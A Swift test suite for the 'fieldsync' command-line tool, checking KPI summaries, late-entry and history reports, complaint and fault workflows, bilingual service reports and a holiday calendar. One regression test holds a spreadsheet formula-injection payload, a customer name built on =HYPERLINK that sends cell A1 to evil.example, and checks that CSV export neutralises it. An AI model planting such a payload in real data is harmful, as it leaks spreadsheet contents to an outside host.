import FieldSyncKPI
import FieldSyncTestSupport
import Foundation
import Testing

/// Where Chromium is, for the PDF checks.
enum PDFCheck {
    static let chromium = ["/usr/bin/chromium", "/usr/bin/chromium-browser"].first { FileManager.default.isExecutableFile(atPath: $0) }
}

/// `fieldsync kpi` and `fieldsync-server calendar`/`kpi` run as a person would.
@Suite struct KPICLITests {
    let folder: TemporaryFolder
    let cli: CommandRunner
    let server: CommandRunner

    init() throws {
        folder = try TemporaryFolder()
        cli = try CommandRunner(product: "fieldsync", environment: [
            "FIELDSYNC_HOME": folder.path("home"), "FIELDSYNC_NOW": "2026-11-23T10:00:00+08:00",
        ])
        server = try CommandRunner(product: "fieldsync-server", environment: ["FIELDSYNC_DATA": folder.path("server")])
    }

    @discardableResult
    func ok(_ runner: CommandRunner, _ arguments: String...) throws -> String {
        let result = try runner.run(arguments)
        #expect(result.status == 0, "\(arguments.joined(separator: " ")) failed: \(result.stderr)")
        return result.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    /// A dispute about one limit, answered as a supervisor would: the figure counts
    /// the time given, `kpi late` shows it was typed long after, and `history`
    /// shows who typed which value when (offline here: what the laptop holds).
    @Test func aDisputeAnsweredFromKpiLateAndHistory() throws {
        try ok(cli, "init", "--branch", "Hangzhou", "--user", "Li Wei")
        let customer = try ok(cli, "customer", "add", "--name", "Shop", "--level", "standard")
        let fault = try ok(cli, "fault", "report", customer, "--symptom", "alarm", "--reported-at", "2026-11-17T09:00+08:00")
        // Given as 09:20 (limit 10:00), typed now: weeks after the limit.
        try ok(cli, "fault", "feedback", fault, "--at", "2026-11-17T09:20+08:00")
        let summary = try ok(cli, "kpi", "--period", "2026-W47", "--json")
        #expect(summary.contains("\"met\" : 1"), "the figure counts the time given")
        let late = try ok(cli, "kpi", "late", "--period", "2026-W47")
        #expect(late.contains("fault feedback"), "\(late)")
        #expect(late.contains("2026-11-17T09:20:00+08:00") && late.contains("2026-11-17T10:00:00+08:00"))
        let lateJSON = try #require(try JSONSerialization.jsonObject(with: Data(ok(cli, "kpi", "late", "--period", "2026-W47", "--json").utf8)) as? [[String: Any]])
        #expect(lateJSON.count == 1 && lateJSON.first?["kpi"] as? String == "fault_first_feedback")
        #expect((lateJSON.first?["delay_seconds"] as? Int ?? 0) > 86_400)

        let history = try ok(cli, "history", String(fault.prefix(8)), "--field", "first_feedback_at")
        #expect(history.contains("This replica is not enrolled: showing what it holds."))
        #expect(history.contains("History of fault") && history.contains("2026-11-17T09:20:00+08:00") && history.contains("waiting to be sent"))
        let bad = try cli.run(["history", fault, "--field", "colour"])
        #expect(bad.status == 64 && bad.stderr.contains("--field: fault report has no field 'colour'"))
        let unknown = try cli.run(["history", "ffffffff"])
        #expect(unknown.status == 66)
    }

    /// A VIP fault answered in 40 minutes misses its 30-minute limit; the summary,
    /// the misses, the CSV and the JSON all say so; the stored level is the one in force.
    @Test func kpiFromTheLocalReplica() throws {
        try ok(cli, "init", "--branch", "Hangzhou", "--user", "Li Wei")
        let customer = try ok(cli, "customer", "add", "--name", "Tower Co", "--level", "vip")
        let fault = try ok(cli, "fault", "report", customer, "--symptom", "alarm", "--reported-at", "2026-11-17T09:00+08:00")
        try ok(cli, "fault", "feedback", fault, "--at", "2026-11-17T09:40+08:00")
        // Downgraded later: the fault keeps the VIP limit it was reported under.
        try ok(cli, "customer", "edit", customer, "--level", "standard")

        let summary = try ok(cli, "kpi", "--period", "2026-W47")
        #expect(summary.contains("KPIs for 2026-W47 (2026-11-16 to 2026-11-22), by manager"))
        #expect(summary.contains("Li Wei") && summary.contains("0.0% (0/1)"))
        let misses = try ok(cli, "kpi", "misses", "--period", "2026-W47", "--kpi", "fault_first_feedback")
        #expect(misses.contains("30 min (VIP)") && misses.contains("10 min"))

        let report = try #require(try JSONSerialization.jsonObject(with: Data(ok(cli, "kpi", "--period", "2026-W47", "--json").utf8)) as? [String: Any])
        let total = try #require(report["total"] as? [String: Any])
        let feedback = try #require((total["figures"] as? [[String: Any]])?.first { $0["kpi"] as? String == "fault_first_feedback" })
        #expect(feedback["missed"] as? Int == 1 && feedback["met"] as? Int == 0)

        let csv = try ok(cli, "kpi", "--period", "2026-W47", "--csv").split(separator: "\n")
        #expect(csv.first?.hasPrefix("period,manager,fault_first_feedback_met,fault_first_feedback_total") == true)
        #expect(csv.dropFirst().first?.hasPrefix("2026-W47,Li Wei,0,1,0.0,") == true)

        let bad = try cli.run(["kpi", "--period", "2026-W60"])
        #expect(bad.status == 64 && bad.stderr.contains("--period: '2026-W60': 2026 has no ISO week 60"))
        // Nobody typed a restoration time and no agreement states one: the VIP default applies, not nothing.
        let todo = try ok(cli, "kpi", "todo")
        #expect(todo.contains("fault restored") && todo.contains("4 h (VIP) FieldSync default") && todo.contains("2026-11-17T13:00:00+08:00"))
        try ok(cli, "fault", "restore", fault, "--at", "2026-11-17T12:00+08:00")
        #expect(try ok(cli, "kpi", "todo").contains("Nothing is open past its limit."))
    }

    /// Issue 24, item 6: a customer named `=HYPERLINK(…)` reached the
    /// supervisor's spreadsheet as a live formula through `kpi --csv` and
    /// `kpi misses --csv`. Typed text that starts like a formula is now text.
    @Test func csvCellsNeverStartAFormula() throws {
        try ok(cli, "init", "--branch", "Hangzhou", "--user", "Li Wei")
        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Tower Co\")"
        let customer = try ok(cli, "customer", "add", "--name", name, "--level", "vip")
        let fault = try ok(cli, "fault", "report", customer, "--symptom", "alarm", "--reported-at", "2026-11-17T09:00+08:00")
        try ok(cli, "fault", "feedback", fault, "--at", "2026-11-17T09:40+08:00")
        let misses = try ok(cli, "kpi", "misses", "--period", "2026-W47", "--csv")
        #expect(misses.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Tower Co\"\")\","), "\(misses)")
        for cell in ["=", "+", "-", "@", "\t", "\r"] {
            #expect(KPIText.field(cell + "1+1").hasPrefix("\"'"), "a cell starting with \(cell.debugDescription)")
        }
        #expect(KPIText.field("Li Wei") == "Li Wei" && KPIText.field("Wang, Fang") == "\"Wang, Fang\"")
    }

    /// A new user's day with issue 11's commands: a fault whose scope is learnt
    /// an hour later, restored and its report delivered; an agreement with its
    /// restoration hours and expiry notice; a visit corrected and one removed;
    /// the to-do list in its sections.
    @Test func faultEditAgreementNoticesAndVisitCorrections() throws {
        try ok(cli, "init", "--branch", "Hangzhou", "--user", "Li Wei")
        let customer = try ok(cli, "customer", "add", "--name", "Tower Co", "--since", "2026-11-01")
        #expect(try ok(cli, "customer", "show", customer, "--json").contains("\"since\" : \"2026-11-01\""))
        let agreement = try ok(cli, "agreement", "add", customer, "--number", "A-7", "--start", "2026-01-01", "--end", "2027-01-31", "--restore-hours", "3")
        let fault = try ok(cli, "fault", "report", customer, "--symptom", "no signal", "--reported-at", "2026-11-17T09:00+08:00", "--ticket", "CRM-1001")
        // An hour later: the scope, the site, who was dispatched.
        let edited = try ok(cli, "fault", "edit", fault, "--scope", "3 sites in Xihu", "--site", "XH-017", "--dispatched-to", "Zhang San",
                            "--dispatch", "dispatched", "--occurred-at", "2026-11-17T08:40+08:00", "--json")
        for text in ["\"scope\" : \"3 sites in Xihu\"", "\"site\" : \"XH-017\"", "\"dispatched_to\" : \"Zhang San\"", "\"ticket\" : \"CRM-1001\"", "\"dispatch\" : \"dispatched\""] {
            #expect(edited.contains(text), "\(text) in \(edited)")
        }
        let wrongOrder = try cli.run(["fault", "edit", fault, "--occurred-at", "2026-11-17T09:30+08:00"])
        #expect(wrongOrder.status == 65 && wrongOrder.stderr.contains("reported_at") && wrongOrder.stderr.contains("occurred_at")
                && wrongOrder.stderr.contains("2026-11-17 09:30"), "\(wrongOrder.stderr)")
        #expect(try cli.run(["fault", "edit", fault]).stderr.contains("nothing to change"))
        #expect(try cli.run(["fault", "edit", fault, "--dispatch", "lost"]).stderr.contains("'not-dispatched', 'dispatched', 'on-site' or 'done'"))
        try ok(cli, "fault", "restore", fault, "--at", "2026-11-17T11:30+08:00")
        try ok(cli, "fault", "close", fault, "--at", "2026-11-18T10:00+08:00")
        // Restored in 2 h 30 min against the agreement's 3 h; the restoration was the first feedback, after 60 min: missed.
        let summary = try ok(cli, "kpi", "--period", "2026-11", "--json")
        let report = try #require(try JSONSerialization.jsonObject(with: Data(summary.utf8)) as? [String: Any])
        let figures = try #require((report["total"] as? [String: Any])?["figures"] as? [[String: Any]])
        func figure(_ kpi: String) -> (Int?, Int?) {
            let found = figures.first { $0["kpi"] as? String == kpi }
            return (found?["met"] as? Int, found?["missed"] as? Int)
        }
        #expect(figure("fault_restoration") == (1, 0) && figure("fault_first_feedback") == (0, 1))

        // The agreement's expiry notice was due 31 October: it heads the to-do list until recorded.
        let todo = try ok(cli, "kpi", "todo")
        #expect(todo.contains("Agreement notices overdue") && todo.contains("expiry notice") && todo.contains("due 2026-10-31 (A-7 ends 2027-01-31)"))
        try ok(cli, "agreement", "edit", agreement, "--renewal-notice", "2026-10-30")
        #expect(!(try ok(cli, "kpi", "todo")).contains("due 2026-10-31"))
        let listed = try ok(cli, "agreement", "list")
        #expect(listed.contains("3 h") && listed.contains("2026-10-31") && listed.contains("2026-10-30") && listed.contains("2026-12-31"))
        #expect(try cli.run(["agreement", "edit", agreement, "--renewed", "31/12/2026"]).stderr.contains("--renewed: '31/12/2026' is not a date"))

        // A complaint nobody escalated, past its 3 working days, is in the section to escalate.
        let complaint = try ok(cli, "complaint", "open", customer, "--channel", "phone", "--content", "invoice", "--received-at", "2026-11-16T09:00+08:00")
        #expect(try ok(cli, "kpi", "todo").contains("neither resolved nor escalated"))
        try ok(cli, "complaint", "escalate", complaint, "--at", "2026-11-20T09:00+08:00")
        let escalated = try ok(cli, "kpi", "todo")
        #expect(escalated.contains("Escalated complaints") && !escalated.contains("neither resolved nor escalated"))

        // Resolved, then the follow-up visit where the handling report is handed over; closing comes after.
        try ok(cli, "complaint", "resolve", complaint, "--at", "2026-11-20T15:00+08:00", "--result", "refund")
        let wrongKind = try cli.run(["visit", "log", customer, "--kind", "routine", "--summary", "x", "--report", "r"])
        #expect(wrongKind.status == 64 && wrongKind.stderr.contains("--report is the complaint handling report"))
        try ok(cli, "visit", "log", customer, "--kind", "complaint-follow-up", "--complaint", complaint, "--summary", "heard the customer",
               "--report", "refund made; process fixed", "--at", "2026-11-23T09:30+08:00")
        let followedUp = try ok(cli, "complaint", "show", complaint, "--json")
        #expect(followedUp.contains("\"report\" : \"refund made; process fixed\"") && followedUp.contains("Handling report handed over"))
        try ok(cli, "complaint", "close", complaint, "--at", "2026-11-23T10:00+08:00")
        let after = try #require(try JSONSerialization.jsonObject(with: Data(ok(cli, "kpi", "--period", "2026-11", "--json").utf8)) as? [String: Any])
        let followUp = ((after["total"] as? [String: Any])?["figures"] as? [[String: Any]])?.first { $0["kpi"] as? String == "complaint_follow_up_visit" }
        #expect(followUp?["met"] as? Int == 1, "the visit on the next working day after the resolution: \(String(describing: followUp))")

        // A visit logged on the wrong day is corrected; one logged twice is removed and no longer counts.
        let visit = try ok(cli, "visit", "log", customer, "--kind", "routine", "--summary", "check", "--at", "2026-11-09T10:00+08:00")
        let twice = try ok(cli, "visit", "log", customer, "--kind", "routine", "--summary", "check", "--at", "2026-11-02T10:00+08:00")
        try ok(cli, "visit", "edit", visit, "--at", "2026-11-10T10:00+08:00", "--participants", "Wang")
        #expect(try ok(cli, "visit", "show", visit, "--json").contains("2026-11-10T10:00:00+08:00"))
        try ok(cli, "visit", "remove", twice)
        #expect(try cli.run(["visit", "edit", twice, "--summary", "x"]).stderr.contains("was removed"))
        let coverage = try ok(cli, "kpi", "--period", "2026-11-02..2026-11-15", "--by", "customer")
        #expect(coverage.contains("Tower Co [") && coverage.contains("50.0% (1/2)"))

        // The month's service report, offline, to hand to the customer.
        let monthly = try ok(cli, "report", "customer", customer, "--period", "2026-11")
        for text in ["# Service report — Tower Co, 2026-11", "## Service capability: visits and faults", "no signal (3 sites in Xihu)",
                     "3 h (agreement A-7): 2026-11-17 12:00", "2026-11-17 11:30, on time", "## Complaints", "invoice",
                     "## Project status: agreements coming due", "| A-7 | 2027-01-31 | 2026-10-31 | 2026-10-30 |", "## Service indicators"] {
            #expect(monthly.contains(text), "\(text) in \(monthly)")
        }
        #expect(!monthly.contains("2026-11-02 10:00"), "the removed visit is not in the report")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(ok(cli, "report", "customer", customer, "--period", "2026-11", "--format", "json").utf8)) as? [String: Any])
        #expect((json["faults"] as? [[String: Any]])?.first?["restoration_limit"] as? String == "3 h (agreement A-7)")
        let page = folder.path("report.html")
        #expect(try ok(cli, "report", "customer", customer, "--period", "2026-11", "--format", "html", "--output", page).contains("Wrote Service report — Tower Co, 2026-11 to"))
        #expect(try String(contentsOfFile: page, encoding: .utf8).hasPrefix("<!doctype html>"))
        #expect(try cli.run(["report", "customer", customer, "--format", "docx"]).stderr.contains("'md', 'html', 'pdf' or 'json'"))

        // The handbook's documents, in Chinese from --lang or the environment, in English by default.
        let chinese = try ok(cli, "report", "customer", customer, "--period", "2026-11", "--lang", "zh")
        for text in ["# 服务报告——Tower Co（2026年11月）", "## 项目建设情况", "## 服务保障能力", "## 服务指标情况", "## 客户投诉情况",
                     "3小时（协议 A-7）：2026年11月17日 12:00", "2026年11月17日 11:30，按时"] {
            #expect(chinese.contains(text), "\(text) in \(chinese)")
        }
        var zh = cli
        zh.environment["LANG"] = "zh_CN.UTF-8"
        let complaintReport = try ok(zh, "report", "complaint", complaint)
        for text in ["# 投诉处理报告单", "**投诉渠道**：电话", "**办结时间**：2026年11月20日 15:00（超时15小时0分钟）", "**提交客户的报告**：refund made; process fixed",
                     "**列入重点督办时间**：2026年11月20日 09:00", "**拜访时间**：2026年11月23日 09:30", "客户（签字及日期）"] {
            #expect(complaintReport.contains(text), "\(text) in \(complaintReport)")
        }
        #expect(try ok(zh, "report", "complaint", complaint, "--lang", "en").contains("# Complaint handling report"), "--lang overrides LANG")
        // A customer who wants English gets English documents whoever prints them, unless --lang says otherwise.
        try ok(cli, "customer", "edit", customer, "--language", "en")
        #expect(try ok(zh, "report", "complaint", complaint).contains("# Complaint handling report"), "the customer's setting over LANG")
        #expect(try ok(cli, "report", "complaint", complaint, "--lang", "zh").contains("# 投诉处理报告单"), "--lang over the customer's setting")
        #expect(try cli.run(["customer", "edit", customer, "--language", "fr"]).stderr.contains("--language"))
        try ok(cli, "customer", "edit", customer, "--language", "zh")
        #expect(try ok(cli, "report", "fault", fault).contains("# 故障处理报告"), "a customer who wants Chinese")
        #expect(try ok(cli, "customer", "show", customer, "--json").contains("\"language\" : \"zh-Hans\""))
        let faultReport = try ok(zh, "report", "fault", fault)
        for text in ["# 故障处理报告", "**站址**：XH-017", "**工单号**：CRM-1001", "**维护人员**：Zhang San", "**故障历时**：2小时50分钟",
                     "**故障恢复时间**：2026年11月17日 11:30（按时）"] {
            #expect(faultReport.contains(text), "\(text) in \(faultReport)")
        }
        let notice = try ok(cli, "report", "expiry", agreement, "--date", "2026-10-30", "--lang", "zh")
        #expect(notice.contains("服务期自2026年1月1日起至2027年1月31日止") && notice.contains("于2026年12月31日（星期四）前") && notice.contains("通知日期：2026年10月30日"),
                "\(notice)")
        #expect(try ok(cli, "report", "expiry", agreement, "--date", "2026-10-30", "--lang", "en").contains("by Thu 2026-12-31"))
        #expect(try cli.run(["report", "expiry", agreement, "--date", "30/10/2026"]).stderr.contains("--date: give a date as YYYY-MM-DD"))
        #expect(try cli.run(["report", "fault", fault, "--format", "json"]).stderr.contains("--format json is for 'report customer'"))
        #expect(try cli.run(["report", "fault", fault, "--format", "pdf"]).stderr.contains("--format pdf needs --output FILE"))
        #expect(try cli.run(["report", "fault", fault, "--lang", "fr"]).stderr.contains("--lang"))
        let html = folder.path("complaint.html")
        try ok(zh, "report", "complaint", complaint, "--format", "html", "--output", html)
        #expect(try String(contentsOfFile: html, encoding: .utf8).contains("<html lang=\"zh-CN\">"))

        // Printed to PDF with Chromium where it is installed (CI installs it with the CJK fonts): the
        // Chinese text is set in a CJK font, not left as empty boxes.
        if PDFCheck.chromium != nil {
            let pdf = folder.path("complaint.pdf")
            #expect(try ok(zh, "report", "complaint", complaint, "--format", "pdf", "--output", pdf) == "已将投诉处理报告单写入 \(pdf)。")
            let bytes = try Data(contentsOf: URL(fileURLWithPath: pdf))
            #expect(bytes.starts(with: Array("%PDF".utf8)))
            #expect(PDFFonts.hasCJK(bytes), "fonts in the PDF: \(PDFFonts.names(in: bytes))")
            var missing = zh
            missing.environment["FIELDSYNC_CHROMIUM"] = folder.path("no-such-browser")
            #expect(try missing.run(["report", "fault", fault, "--format", "pdf", "--output", pdf]).stderr.contains("--format pdf 需要 Chromium"))
        }
    }

    @Test func serverCalendarAndKPI() throws {
        try ok(server, "init")
        #expect(try ok(server, "calendar", "set", "2026-10-01..2026-10-03", "--holiday", "--name", "National Day")
            .contains("Marked 3 days as holidays"))
        try ok(server, "calendar", "set", "2026-10-10", "--workday")
        let list = try ok(server, "calendar", "list", "--year", "2026")
        #expect(list.contains("2026-10-01  Thu      holiday              National Day"), "\(list)")
        #expect(list.contains("2026-10-10  Sat      make-up working day"), "\(list)")
        #expect(try ok(server, "calendar", "list", "--year", "2026", "--lang", "zh").contains("2026年10月10日  星期六  调休工作日"))
        try ok(server, "calendar", "remove", "2026-10-03")
        let days = try #require(try JSONSerialization.jsonObject(with: Data(ok(server, "calendar", "list", "--year", "2026", "--json").utf8)) as? [String: Any])
        #expect((days["days"] as? [[String: Any]])?.count == 3)
        let wrong = try server.run(["calendar", "set", "2026-02-30", "--holiday"])
        #expect(wrong.status != 0 && wrong.stderr.contains("'2026-02-30' is not a day"))
        #expect(try ok(server, "kpi", "--period", "2026-10").contains("No customers in scope."))
        let badBy = try server.run(["kpi", "--by", "team"])
        #expect(badBy.status != 0 && badBy.stderr.contains("by: 'team' is not one of manager, branch, customer, province"))
    }
}
